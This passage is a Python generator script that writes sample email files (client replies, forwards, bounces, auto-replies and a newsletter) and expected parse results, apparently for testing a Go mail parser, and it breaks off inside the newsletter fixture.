#!/usr/bin/env python3
"""Writes the .eml corpus for internal/mail/message and, for each file, the
hand-written expectations ("checks") into NAME.golden.json when that golden
does not exist yet. The "expect" half of each golden is written by
`go test ./internal/mail/message -update` and reviewed by eye; "checks" are
independent of the parser and are preserved by -update.

Run from this directory: python3 gen_corpus.py
"""
import base64
import binascii
import json
import os
import quopri

HERE = os.path.dirname(os.path.abspath(__file__))
CHECKS = {}


def b64(data, width=76):
    s = base64.b64encode(data).decode()
    return "\n".join(s[i:i + width] for i in range(0, len(s), width))


def qp(text, cs):
    return quopri.encodestring(text.encode(cs)).decode("ascii")


def ew(text, cs, enc="B", chunk=12):
    """RFC 2047 encoded words, split on character boundaries."""
    words = []
    for i in range(0, len(text), chunk):
        part = text[i:i + chunk].encode(cs)
        if enc == "B":
            words.append("=?%s?B?%s?=" % (cs_name(cs), base64.b64encode(part).decode()))
        else:
            q = "".join(
                chr(b) if (48 <= b <= 57 or 65 <= b <= 90 or 97 <= b <= 122) else ("_" if b == 32 else "=%02X" % b)
                for b in part)
            words.append("=?%s?Q?%s?=" % (cs_name(cs), q))
    return "\n ".join(words)


def pct(text, cs):
    return "".join(chr(b) if (48 <= b <= 57 or 65 <= b <= 90 or 97 <= b <= 122 or chr(b) in ".-_") else "%%%02X" % b
                   for b in text.encode(cs))


NAMES = {"utf-8": "UTF-8", "latin-1": "ISO-8859-1", "iso8859_2": "ISO-8859-2", "iso8859_15": "ISO-8859-15",
         "cp1250": "windows-1250", "cp1251": "windows-1251", "cp1252": "windows-1252", "shift_jis": "Shift_JIS",
         "iso2022_jp": "ISO-2022-JP", "gb2312": "GB2312", "gbk": "GBK", "koi8_r": "KOI8-R"}


def cs_name(cs):
    return NAMES.get(cs, cs)


def write(name, text, checks, crlf=False, raw_bytes=None):
    data = raw_bytes if raw_bytes is not None else text.encode("utf-8", "surrogateescape")
    if raw_bytes is None:
        data = data.replace(b"\r\n", b"\n")
        if crlf:
            data = data.replace(b"\n", b"\r\n")
    with open(os.path.join(HERE, name + ".eml"), "wb") as f:
        f.write(data)
    CHECKS[name] = checks


PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300") + b"\x08" * 64 + bytes.fromhex("ffd9")
TNEF = bytes.fromhex("789f3e220100") + b"\x01\x06\x90\x08\x00\x04\x00\x00\x00\x00\x00" + b"\x00" * 40

ICS = """BEGIN:VCALENDAR
METHOD:REQUEST
PRODID:Microsoft Exchange Server 2010
VERSION:2.0
BEGIN:VEVENT
ORGANIZER;CN=Maria Lopez:mailto:maria.lopez@contoso.example
ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Support:mailto:support@docket.example
DESCRIPTION;LANGUAGE=en-US:Quarterly review of open escalations.\\n
UID:040000008200E00074C5B7101A82E00800000000D0A1B2C3
SUMMARY;LANGUAGE=en-US:Escalation review
DTSTART;TZID=W. Europe Standard Time:20260310T100000
DTEND;TZID=W. Europe Standard Time:20260310T110000
LOCATION;LANGUAGE=en-US:Teams
SEQUENCE:0
END:VEVENT
END:VCALENDAR
"""

SAFE_HTML = ["<script", "onerror", "onload", "onclick", "onmouseover", "<iframe", "javascript:", "<form", "<style",
             "style=", 'src="http', "src='http", "<meta", "<svg", "<object", "<embed", "<link"]

# ---------------------------------------------------------------- clients

write("outlook_inline_images", """Received: from EUR05-AM6-obe.outbound.protection.outlook.example (mail-am6eur05on2101.outbound.protection.outlook.example [40.107.22.101])
\tby mx.docket.example (Postfix) with ESMTPS id 4ZK1x2
\tfor <support@docket.example>; Tue,  3 Mar 2026 09:14:22 +0000 (UTC)
Authentication-Results: mx.docket.example; dkim=pass header.d=contoso.example; spf=pass smtp.mailfrom=contoso.example; dmarc=pass
Authentication-Results: mx.docket.example; arc=none
Return-Path: <peter.jansen@contoso.example>
From: "Jansen, Peter" <peter.jansen@contoso.example>
To: Docket Support <support@docket.example>
Subject: RE: Printer on 3rd floor shows error E-302
Thread-Topic: Printer on 3rd floor shows error E-302
Thread-Index: AQHajk3vQ2mKQ0l1dUe0b2xZ5mN9Rw==
Date: Tue, 3 Mar 2026 09:14:19 +0000
Message-ID: <AM6PR05MB6124A1B2C3D4E5F6A7B8C9D0AAAA@AM6PR05MB6124.eurprd05.prod.outlook.example>
References: <ticket-1042.1.abc@docket.example>
In-Reply-To: <ticket-1042.1.abc@docket.example>
Accept-Language: nl-NL, en-US
Content-Language: en-US
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
X-Mailer: Microsoft Outlook 16.0
Content-Type: multipart/mixed;
\tboundary="_005_AM6PR05MB6124A1B2C3D4E5F6A7B8C9D0AAAAAM6PR05MB6124eurp_"
MIME-Version: 1.0

--_005_AM6PR05MB6124A1B2C3D4E5F6A7B8C9D0AAAAAM6PR05MB6124eurp_
Content-Type: multipart/related;
\tboundary="_004_AM6PR05MB6124A1B2C3D4E5F6A7B8C9D0AAAAAM6PR05MB6124eurp_";
\ttype="multipart/alternative"

--_004_AM6PR05MB6124A1B2C3D4E5F6A7B8C9D0AAAAAM6PR05MB6124eurp_
Content-Type: multipart/alternative;
\tboundary="_000_AM6PR05MB6124A1B2C3D4E5F6A7B8C9D0AAAAAM6PR05MB6124eurp_"

--_000_AM6PR05MB6124A1B2C3D4E5F6A7B8C9D0AAAAAM6PR05MB6124eurp_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Hi,

Here is a photo of the display. The error comes back after a restart.

[cid:image001.png@01DA8B2C.3D4E5F60]

Kind regards,
Peter Jansen

From: Docket Support <support@docket.example>
Sent: Monday, March 2, 2026 4:02 PM
To: Jansen, Peter <peter.jansen@contoso.example>
Subject: Printer on 3rd floor shows error E-302

Could you send us a photo of the display?

--_000_AM6PR05MB6124A1B2C3D4E5F6A7B8C9D0AAAAAM6PR05MB6124eurp_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

<html xmlns:v=3D"urn:schemas-microsoft-com:vml" xmlns:o=3D"urn:schemas-micr=
osoft-com:office:office"><head><meta http-equiv=3D"Content-Type" content=3D=
"text/html; charset=3Dus-ascii"><style><!-- p.MsoNormal {margin:0cm;} --></=
style><!--[if gte mso 9]><xml><o:shapedefaults v:ext=3D"edit" spidmax=3D"10=
26" /></xml><![endif]--></head><body lang=3D"EN-US" link=3D"#0563C1"><div c=
lass=3D"WordSection1"><p class=3D"MsoNormal">Hi,<o:p></o:p></p><p class=3D"=
MsoNormal">Here is a photo of the display. The error comes back after a res=
tart.<o:p></o:p></p><p class=3D"MsoNormal"><img width=3D"320" height=3D"240=
" style=3D"width:3.3333in;height:2.5in" id=3D"Picture_x0020_1" src=3D"cid:i=
mage001.png@01DA8B2C.3D4E5F60" alt=3D"display"></p><p class=3D"MsoNormal">K=
ind regards,<br>Peter Jansen<o:p></o:p></p><div style=3D"border:none;border=
-top:solid #E1E1E1 1.0pt"><p class=3D"MsoNormal"><b>From:</b> Docket Suppor=
t &lt;support@docket.example&gt;<br><b>Sent:</b> Monday, March 2, 2026 4:02=
 PM</p></div><p class=3D"MsoNormal">Could you send us a photo of the displa=
y?</p></div></body></html>

--_000_AM6PR05MB6124A1B2C3D4E5F6A7B8C9D0AAAAAM6PR05MB6124eurp_--

--_004_AM6PR05MB6124A1B2C3D4E5F6A7B8C9D0AAAAAM6PR05MB6124eurp_
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"; size=%d;
\tcreation-date="Tue, 03 Mar 2026 09:14:18 GMT";
\tmodification-date="Tue, 03 Mar 2026 09:14:18 GMT"
Content-ID: <image001.png@01DA8B2C.3D4E5F60>
Content-Transfer-Encoding: base64

%s

--_004_AM6PR05MB6124A1B2C3D4E5F6A7B8C9D0AAAAAM6PR05MB6124eurp_--

--_005_AM6PR05MB6124A1B2C3D4E5F6A7B8C9D0AAAAAM6PR05MB6124eurp_
Content-Type: application/pdf; name="Service report March.pdf"
Content-Description: Service report March.pdf
Content-Disposition: attachment; filename="Service report March.pdf"; size=%d
Content-Transfer-Encoding: base64

%s

--_005_AM6PR05MB6124A1B2C3D4E5F6A7B8C9D0AAAAAM6PR05MB6124eurp_--
""" % (len(PNG), b64(PNG), len(PDF), b64(PDF)), {
    "subject": "RE: Printer on 3rd floor shows error E-302",
    "filenames": ["image001.png", "Service report March.pdf"],
    "html_contains": ['src="cid:image001.png@01DA8B2C.3D4E5F60"', "Kind regards"],
    "text_contains": ["Here is a photo of the display."],
    "quote_prefix": "From: Docket Support",
}, crlf=True)

write("apple_mail_inline_attachment", """Return-Path: <lena.k@me.example>
From: Lena Krause <lena.k@me.example>
Content-Type: multipart/mixed;
\tboundary="Apple-Mail=_5C0E3B7A-91A4-4E0B-8F1D-2B7C9E6A1D11"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.600.62\\))
Subject: Invoice 2026-0193 looks wrong
Message-Id: <5C0E3B7A-91A4-4E0B-8F1D-2B7C9E6A1D11@me.example>
Date: Wed, 4 Mar 2026 18:40:03 +0100
To: support@docket.example
X-Mailer: Apple Mail (2.3774.600.62)

--Apple-Mail=_5C0E3B7A-91A4-4E0B-8F1D-2B7C9E6A1D11
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
\tcharset=us-ascii;
\tformat=flowed

Hello,

the invoice below charges us twice for the same licence. Screenshot  
attached.


--Apple-Mail=_5C0E3B7A-91A4-4E0B-8F1D-2B7C9E6A1D11
Content-Disposition: inline;
\tfilename=Screenshot-2026-03-04.jpeg
Content-Type: image/jpeg;
\tx-unix-mode=0644;
\tname="Screenshot-2026-03-04.jpeg"
Content-Transfer-Encoding: base64

%s

--Apple-Mail=_5C0E3B7A-91A4-4E0B-8F1D-2B7C9E6A1D11
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
\tcharset=us-ascii

Thanks,
Lena
--Apple-Mail=_5C0E3B7A-91A4-4E0B-8F1D-2B7C9E6A1D11--
""" % b64(JPEG), {
    "subject": "Invoice 2026-0193 looks wrong",
    "filenames": ["Screenshot-2026-03-04.jpeg"],
    "text_contains": ["charges us twice", "Thanks,\nLena"],
})

write("gmail_reply_quoted", """Delivered-To: support@docket.example
Received: by 2002:a05:6a10:9e8c:b0:5b1:1f4e:2c7a with SMTP id ja12csp1234567pxb;
        Thu, 5 Mar 2026 07:21:44 -0800 (PST)
Authentication-Results: mx.google.example;
       dkim=pass header.i=@gmail.example header.s=20230601 header.b=AbCdEf12;
       spf=pass (google.example: domain of sam.rivera@gmail.example designates 209.85.220.41 as permitted sender) smtp.mailfrom=sam.rivera@gmail.example;
       dmarc=pass (p=NONE sp=QUARANTINE dis=NONE) header.from=gmail.example
Return-Path: <sam.rivera@gmail.example>
MIME-Version: 1.0
References: <ticket-2001.1.q7@docket.example> <ticket-2001.2.r8@docket.example>
In-Reply-To: <ticket-2001.2.r8@docket.example>
From: Sam Rivera <sam.rivera@gmail.example>
Date: Thu, 5 Mar 2026 10:21:31 -0500
Message-ID: <CAHk7=wg2h4X9vZ+Qm3pL1uY8eR6tN0bV5cA@mail.gmail.example>
Subject: Re: [#2001] Cannot log in after password reset
To: Docket Support <support@docket.example>
Cc: "Rivera, Ana" <ana.rivera@gmail.example>
Content-Type: multipart/alternative; boundary="000000000000a1b2c3061d8e9f01"

--000000000000a1b2c3061d8e9f01
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

That worked, thank you! I can log in again.

Sam

On Wed, Mar 4, 2026 at 4:10=E2=80=AFPM Docket Support <support@docket.example>
wrote:

> Hi Sam,
>
> We have reset your account. Please try again.
>
> > On Tue, Mar 3, 2026 Sam Rivera wrote:
> > I cannot log in.
>

--000000000000a1b2c3061d8e9f01
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

<div dir=3D"ltr">That worked, thank you! I can log in again.<div><br></div>=
<div>Sam</div></div><br><div class=3D"gmail_quote"><div dir=3D"ltr" class=
=3D"gmail_attr">On Wed, Mar 4, 2026 at 4:10=E2=80=AFPM Docket Support &lt;<=
a href=3D"mailto:support@docket.example">support@docket.example</a>&gt; wro=
te:<br></div><blockquote class=3D"gmail_quote" style=3D"margin:0px 0px 0px =
0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Hi Sam,<br><=
br>We have reset your account. Please try again.</blockquote></div>

--000000000000a1b2c3061d8e9f01--
""", {
    "subject": "Re: [#2001] Cannot log in after password reset",
    # Gmail's div.gmail_quote, attribution line included, is folded away.
    "html_contains": ["<blockquote><div>On Wed, Mar 4, 2026", 'href="mailto:support@docket.example"'],
    "quote_prefix": "On Wed, Mar 4, 2026 at 4:10",
})

write("thunderbird_reply_signature", """Return-Path: <j.novak@firma.example>
Message-ID: <8d2f1c3a-7b6e-4f0a-9c1d-5e2b3a4c6d7e@firma.example>
Date: Thu, 5 Mar 2026 11:02:57 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Subject: Re: VPN drops every 10 minutes
To: support@docket.example
References: <ticket-3003.1.aa@docket.example>
 <ticket-3003.2.bb@docket.example>
Content-Language: en-US
From: Jan Novak <j.novak@firma.example>
In-Reply-To: <ticket-3003.2.bb@docket.example>
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Hello,

it still happens with client 5.2.1. Log excerpt:

   10:01:12 tunnel down (DPD timeout)
   10:01:14 tunnel up

-- 
Jan Novák
IT, Firma s.r.o.
+420 555 123 456

On 04.03.26 17:30, Docket Support wrote:
> Please update the client to 5.2.1 and tell us if it still happens.
""", {
    "subject": "Re: VPN drops every 10 minutes",
    "text_contains": ["tunnel down (DPD timeout)", "Jan Novák"],
    "quote_prefix": "-- \nJan Novák",
})

write("ios_mail_reply", """Return-Path: <chris.p@icloud.example>
From: Chris Park <chris.p@icloud.example>
Content-Type: text/plain;
\tcharset=utf-8
Content-Transfer-Encoding: quoted-printable
Mime-Version: 1.0 (1.0)
Subject: Re: Your order #88231 has shipped
Date: Fri, 6 Mar 2026 08:15:40 -0800
Message-Id: <F1E2D3C4-B5A6-4978-8877-665544332211@icloud.example>
References: <order-88231.shipped@shop.docket.example>
In-Reply-To: <order-88231.shipped@shop.docket.example>
To: Docket Support <support@docket.example>
X-Mailer: iPhone Mail (22D72)

The tracking link says the parcel was returned to sender. Can you check?=20

Sent from my iPhone

> On Mar 5, 2026, at 9:02=E2=80=AFAM, Docket Support <support@docket.example>=
 wrote:
>=20
> =EF=BB=BFYour order has shipped.
""", {
    "subject": "Re: Your order #88231 has shipped",
    "quote_prefix": "Sent from my iPhone",
})

write("android_gmail_reply", """Return-Path: <priya.n@gmail.example>
MIME-Version: 1.0
References: <ticket-4100.3.zz@docket.example>
In-Reply-To: <ticket-4100.3.zz@docket.example>
From: Priya Nair <priya.n@gmail.example>
Date: Sat, 7 Mar 2026 13:44:02 +0530
Message-ID: <CAOw3k9sX1y2Z3a4B5c6D7e8F9g0H1i2J3k4L5m6N7o8P9q@mail.gmail.example>
Subject: Re: [#4100] Refund request
To: support@docket.example
Content-Type: multipart/alternative; boundary="0000000000009f8e7d061d8ea1b2"

--0000000000009f8e7d061d8ea1b2
Content-Type: text/plain; charset="UTF-8"

Yes please refund to the original card.

On Sat, 7 Mar, 2026, 12:01 pm Docket Support, <support@docket.example> wrote:

> Should we refund to the original card?
>

--0000000000009f8e7d061d8ea1b2
Content-Type: text/html; charset="UTF-8"

<div dir="auto">Yes please refund to the original card.</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Sat, 7 Mar, 2026, 12:01 pm Docket Support, &lt;<a href="mailto:support@docket.example">support@docket.example</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0 0 0 .8ex;border-left:1px #ccc solid;padding-left:1ex">Should we refund to the original card?</blockquote></div>

--0000000000009f8e7d061d8ea1b2--
""", {
    "subject": "Re: [#4100] Refund request",
    "html_contains": ["<blockquote><div>On Sat, 7 Mar, 2026"],
    "quote_prefix": "On Sat, 7 Mar, 2026, 12:01 pm",
})

write("outlook_original_message", """Return-Path: <m.weber@firma.example>
From: "Weber, Markus" <m.weber@firma.example>
To: "support@docket.example" <support@docket.example>
Subject: AW: Zugang zum Portal
Date: Mon, 9 Mar 2026 07:55:10 +0000
Message-ID: <DB9PR08MB71234F5E6D7C8B9A0ABCDEF@DB9PR08MB7123.eurprd08.prod.outlook.example>
In-Reply-To: <ticket-5120.1.x@docket.example>
X-Mailer: Microsoft Outlook 16.0
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

Guten Morgen,

der Zugang funktioniert jetzt. Vielen Dank f=FCr die schnelle Hilfe!

Mit freundlichen Gr=FC=DFen
Markus Weber

-----Original Message-----
From: Docket Support <support@docket.example>=20
Sent: Friday, March 6, 2026 5:00 PM
To: Weber, Markus <m.weber@firma.example>
Subject: Zugang zum Portal

Bitte versuchen Sie es erneut.
""", {
    "subject": "AW: Zugang zum Portal",
    "text_contains": ["Vielen Dank für die schnelle Hilfe!", "Mit freundlichen Grüßen"],
    "quote_prefix": "-----Original Message-----",
})

write("forward_inline_gmail", """Return-Path: <office@smallbiz.example>
MIME-Version: 1.0
From: Office Manager <office@smallbiz.example>
Date: Mon, 9 Mar 2026 09:30:00 +0100
Message-ID: <CAFwd1nL1ne+abc123@mail.gmail.example>
Subject: Fwd: Your subscription renewal failed
To: support@docket.example
Content-Type: text/plain; charset="UTF-8"

Can you look at this? We were charged anyway.

---------- Forwarded message ---------
From: Billing <billing@vendor.example>
Date: Sun, Mar 8, 2026 at 11:00 PM
Subject: Your subscription renewal failed
To: <office@smallbiz.example>

Your card was declined. Please update your payment details.
""", {
    "subject": "Fwd: Your subscription renewal failed",
    "text_contains": ["Forwarded message", "Your card was declined."],
})

INNER = """From: Billing <billing@vendor.example>
To: office@smallbiz.example
Subject: =?UTF-8?Q?Rechnung_M=C3=A4rz?=
Date: Sun, 8 Mar 2026 23:00:00 +0100
Message-ID: <inv-2026-03@vendor.example>
Content-Type: text/plain; charset=UTF-8

Anbei Ihre Rechnung.
"""
write("forward_as_attachment", """Return-Path: <office@smallbiz.example>
From: Office Manager <office@smallbiz.example>
To: support@docket.example
Subject: Fw: Rechnung =?UTF-8?Q?M=C3=A4rz?=
Date: Mon, 9 Mar 2026 09:45:00 +0100
Message-ID: <fwd-attach-77@smallbiz.example>
MIME-Version: 1.0
X-Mailer: Microsoft Outlook 16.0
Content-Type: multipart/mixed; boundary="----=_NextPart_000_0012_01DA8B2C.ABCDEF00"

This is a multi-part message in MIME format.

------=_NextPart_000_0012_01DA8B2C.ABCDEF00
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit

See the attached mail from the vendor.

------=_NextPart_000_0012_01DA8B2C.ABCDEF00
Content-Type: message/rfc822
Content-Disposition: attachment

%s
------=_NextPart_000_0012_01DA8B2C.ABCDEF00--
""" % INNER, {
    "subject": "Fw: Rechnung März",
    "filenames": ["Rechnung März.eml"],
    "content_types": ["message/rfc822"],
})

# ---------------------------------------------------------------- bounces, auto replies, lists

write("dsn_postfix_bounce", """Return-Path: <>
Received: by mx.docket.example (Postfix)
\tid 9A1B2C3D; Tue, 10 Mar 2026 12:00:05 +0000 (UTC)
Date: Tue, 10 Mar 2026 12:00:05 +0000 (UTC)
From: MAILER-DAEMON@mx.docket.example (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: support@docket.example
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="9A1B2C3D.1773144005/mx.docket.example"
Message-Id: <20260310120005.9A1B2C3D@mx.docket.example>

This is a MIME-encapsulated message.

--9A1B2C3D.1773144005/mx.docket.example
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.docket.example.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<nobody@customer.example>: host mx.customer.example[203.0.113.5] said: 550
    5.1.1 <nobody@customer.example>: Recipient address rejected: User unknown

--9A1B2C3D.1773144005/mx.docket.example
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.docket.example
X-Postfix-Queue-ID: 9A1B2C3D
X-Postfix-Sender: rfc822; support@docket.example
Arrival-Date: Tue, 10 Mar 2026 12:00:03 +0000 (UTC)

Final-Recipient: rfc822; nobody@customer.example
Original-Recipient: rfc822;nobody@customer.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.customer.example
Diagnostic-Code: smtp; 550 5.1.1 <nobody@customer.example>: Recipient address
    rejected: User unknown

--9A1B2C3D.1773144005/mx.docket.example
Content-Description: Undelivered Message
Content-Type: message/rfc822

Return-Path: <support@docket.example>
From: Docket Support <support@docket.example>
To: nobody@customer.example
Subject: [#6001] We received your request
Date: Tue, 10 Mar 2026 12:00:02 +0000
Message-ID: <ticket-6001.1.f00d@docket.example>
Content-Type: text/plain; charset=utf-8

Thanks, we received your request.

--9A1B2C3D.1773144005/mx.docket.example--
""", {
    "subject": "Undelivered Mail Returned to Sender",
    "flags": {"is_bounce": True, "is_automatic": True},
    "bounced_message_id": "ticket-6001.1.f00d@docket.example",
    "bounce_status": "5.1.1",
    "bounce_recipient": "nobody@customer.example",
})

write("dsn_exchange_headers_only", """Return-Path: <>
From: Microsoft Outlook <postmaster@contoso.example>
To: <support@docket.example>
Date: Tue, 10 Mar 2026 12:10:00 +0000
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="e7a1b2c3-d4e5-4f60-8a9b-0c1d2e3f4a5b"
X-MS-Exchange-Message-Is-Ndr:
Content-Language: en-US
Message-ID: <e7a1b2c3-d4e5-4f60-8a9b-0c1d2e3f4a5b@contoso.example>
Subject: Undeliverable: [#6002] Your password was reset
Auto-Submitted: auto-replied

--e7a1b2c3-d4e5-4f60-8a9b-0c1d2e3f4a5b
Content-Type: multipart/alternative; differences=Content-Type;
\tboundary="b1c2d3e4-f5a6-4b7c-8d9e-0f1a2b3c4d5e"

--b1c2d3e4-f5a6-4b7c-8d9e-0f1a2b3c4d5e
Content-Type: text/plain; charset="us-ascii"

Your message to jdoe@contoso.example couldn't be delivered.
jdoe wasn't found at contoso.example.

--b1c2d3e4-f5a6-4b7c-8d9e-0f1a2b3c4d5e
Content-Type: text/html; charset="us-ascii"

<html><body><p>Your message to <a href="mailto:jdoe@contoso.example">jdoe@contoso.example</a> couldn't be delivered.</p><img src="https://products.office.example/ndr/error.png" width="64" height="64" alt="Error"></body></html>

--b1c2d3e4-f5a6-4b7c-8d9e-0f1a2b3c4d5e--

--e7a1b2c3-d4e5-4f60-8a9b-0c1d2e3f4a5b
Content-Type: message/delivery-status

Reporting-MTA: dns;AM6PR05MB6124.eurprd05.prod.outlook.example
Received-From-MTA: dns;mx.docket.example
Arrival-Date: Tue, 10 Mar 2026 12:09:58 +0000

Original-Recipient: rfc822;jdoe@contoso.example
Final-Recipient: rfc822;jdoe@contoso.example
Action: failed
Status: 5.1.10
Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup

--e7a1b2c3-d4e5-4f60-8a9b-0c1d2e3f4a5b
Content-Type: text/rfc822-headers

Return-Path: <support@docket.example>
From: Docket Support <support@docket.example>
To: jdoe@contoso.example
Subject: [#6002] Your password was reset
Message-ID: <ticket-6002.4.beef@docket.example>
Date: Tue, 10 Mar 2026 12:09:57 +0000

--e7a1b2c3-d4e5-4f60-8a9b-0c1d2e3f4a5b--
""", {
    "subject": "Undeliverable: [#6002] Your password was reset",
    "flags": {"is_bounce": True, "is_automatic": True},
    "bounced_message_id": "ticket-6002.4.beef@docket.example",
    "bounce_status": "5.1.10",
    "bounce_recipient": "jdoe@contoso.example",
    "html_contains": ["[remote image: Error]"],
}, crlf=True)

write("dsn_delayed_not_bounce", """Return-Path: <>
From: Mail Delivery System <MAILER-DAEMON@mx.docket.example>
To: support@docket.example
Subject: Delayed Mail (still being retried)
Date: Tue, 10 Mar 2026 16:00:00 +0000
Message-ID: <20260310160000.AAA111@mx.docket.example>
Auto-Submitted: auto-generated
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="delay-boundary"

--delay-boundary
Content-Type: text/plain; charset=us-ascii

This is a warning only. Your message has not been delivered yet; the mail
system will keep trying for 5 days.

--delay-boundary
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.docket.example

Final-Recipient: rfc822; slow@customer.example
Action: delayed
Status: 4.4.1
Will-Retry-Until: Sun, 15 Mar 2026 12:00:00 +0000

--delay-boundary
Content-Type: text/rfc822-headers

From: Docket Support <support@docket.example>
Message-ID: <ticket-6003.1.cafe@docket.example>
Subject: [#6003] Update

--delay-boundary--
""", {
    "subject": "Delayed Mail (still being retried)",
    "flags": {"is_bounce": False, "is_automatic": True},
})

write("bounce_exim_no_dsn", """Return-path: <>
Envelope-to: support@docket.example
Received: from mail by mx.old-isp.example with local (Exim 4.96)
\tid 1vXyZa-000Abc-1Q
\tfor support@docket.example; Wed, 11 Mar 2026 08:00:00 +0000
X-Failed-Recipients: gone@old-isp.example
Auto-Submitted: auto-replied
From: Mail Delivery System <Mailer-Daemon@mx.old-isp.example>
To: support@docket.example
Subject: Mail delivery failed: returning message to sender
Message-Id: <E1vXyZa-000Abc-1Q@mx.old-isp.example>
Date: Wed, 11 Mar 2026 08:00:00 +0000

This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  gone@old-isp.example
    mailbox is full: retry timeout exceeded (5.2.2)

------ This is a copy of the message, including all the headers. ------

Return-path: <support@docket.example>
From: Docket Support <support@docket.example>
To: gone@old-isp.example
Subject: [#6004] Your request
Message-ID: <ticket-6004.2.d00d@docket.example>

Hello.
""", {
    "subject": "Mail delivery failed: returning message to sender",
    "flags": {"is_bounce": True, "is_automatic": True},
    "bounced_message_id": "ticket-6004.2.d00d@docket.example",
    "bounce_status": "5.2.2",
    "bounce_recipient": "gone@old-isp.example",
})

write("ooo_outlook_auto_reply", """Return-Path: <k.schmidt@behoerde.example>
From: "Schmidt, Karin" <k.schmidt@behoerde.example>
To: Docket Support <support@docket.example>
Subject: =?iso-8859-1?Q?Automatische_Antwort:_[#7001]_R=FCckfrage?=
Thread-Topic: [#7001] =?iso-8859-1?Q?R=FCckfrage?=
Date: Thu, 12 Mar 2026 09:00:01 +0000
Message-ID: <0b1c2d3e4f5a4b6c8d9e0f1a2b3c4d5e@behoerde.example>
In-Reply-To: <ticket-7001.2.aa@docket.example>
References: <ticket-7001.2.aa@docket.example>
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: k.schmidt@behoerde.example
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

Ich bin bis zum 20.03. nicht im B=FCro. In dringenden F=E4llen wenden Sie s=
ich bitte an it@behoerde.example.
""", {
    "subject": "Automatische Antwort: [#7001] Rückfrage",
    "text_contains": ["nicht im Büro", "In dringenden Fällen wenden Sie sich"],
    "flags": {"is_auto_reply": True, "is_automatic": True, "is_bounce": False},
})

write("ooo_vacation_xautoreply", """Return-Path: <tom@startup.example>
From: Tom Baker <tom@startup.example>
To: support@docket.example
Subject: Out of office: Re: [#7002] Login issue
Date: Thu, 12 Mar 2026 10:00:00 -0700
Message-ID: <vacation-7002-1@startup.example>
X-Autoreply: yes
Precedence: auto_reply
Content-Type: text/plain; charset=us-ascii

I am travelling until March 20 with limited access to email.
""", {
    "subject": "Out of office: Re: [#7002] Login issue",
    "flags": {"is_auto_reply": True, "is_automatic": True},
})

write("mailing_list_post", """Return-Path: <users-bounces+support=docket.example@lists.project.example>
From: Alex Doe <alex@dev.example>
To: users@lists.project.example
Subject: [users] Release 3.2 breaks SMTP relay
Date: Fri, 13 Mar 2026 14:00:00 +0000
Message-ID: <list-post-3-2@dev.example>
List-Id: Project users <users.lists.project.example>
List-Unsubscribe: <mailto:users-leave@lists.project.example>, <https://lists.project.example/users/unsub>
List-Post: <mailto:users@lists.project.example>
Precedence: list
Sender: "users" <users-bounces@lists.project.example>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

After upgrading, the relay rejects every message with 4.7.0.

_______________________________________________
users mailing list
users@lists.project.example
""", {
    "subject": "[users] Release 3.2 breaks SMTP relay",
    "flags": {"is_automatic": True, "is_auto_reply": False, "is_bounce": False},
})

write("newsletter_bulk_tracking", """Return-Path: <bounce-8812@news.vendor.example>
From: Vendor News <news@vendor.example>
To: support@docket.example
Subject: March product update
Date: Fri, 13 Mar 2026 15:00:00 +0000
Message-ID: <nl-2026-03.8812@news.vendor.example>
Precedence: bulk
List-Unsubscribe: <https://news.vendor.example/u/8812>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

<!DOCTYPE html><html><head><style>body{background:url(https://news.vendor.e=
xample/bg.png)}</style></head><body><table background=3D"https://news.vendo=
r.example/tbl.png"><tr><td><img src=3D"https://news.vendor.example/hero.jpg=
" alt=3D"Spring sale" width=3D"600"><h1>March update</h1><p>New dashboard a=
nd faster search.</p><a href=3D"https://news.vendor.example/c/1?u=3D8812">R=
ead more</a><img src=3D"https://t.vendor.example/open.gif?u=3D8812" width=
